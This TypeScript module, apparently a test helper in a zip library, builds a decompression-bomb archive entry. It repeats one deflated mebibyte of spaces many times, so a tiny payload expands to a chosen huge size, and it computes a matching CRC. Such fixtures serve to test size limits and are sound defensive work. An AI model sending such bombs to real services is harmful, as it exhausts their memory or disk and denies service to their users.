/**
 * A deflate stream that grows without end when it is opened: one megabyte of spaces, packed once with a full flush so that
 * the same packed block may follow itself. Neither the packed nor the unpacked whole is ever computed twice or held.
 */
import { constants, crc32, deflateRawSync } from 'node:zlib'
import type { DeflatedEntry } from './zip.ts'

const MEBIBYTE = 1024 * 1024
// An empty, final block with fixed codes.
const END = Buffer.from([0x03, 0x00])

interface Wrapping {
  before: string
  after: string
}

export function makeBomb(name: string, mebibytes: number, { before, after }: Wrapping): DeflatedEntry {
  const pack = (bytes: Uint8Array) => deflateRawSync(bytes, { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  const head = Buffer.from(before)
  const tail = Buffer.from(after)
  const spaces = Buffer.alloc(MEBIBYTE, ' ')
  const packed = pack(spaces)
  let crc = crc32(head)
  for (let i = 0; i < mebibytes; i += 1) crc = crc32(spaces, crc)
  return {
    name,
    size: head.length + mebibytes * MEBIBYTE + tail.length,
    crc: crc32(tail, crc),
    deflated: Buffer.concat([pack(head), ...Array.from({ length: mebibytes }, () => packed), pack(tail), END]),
  }
}
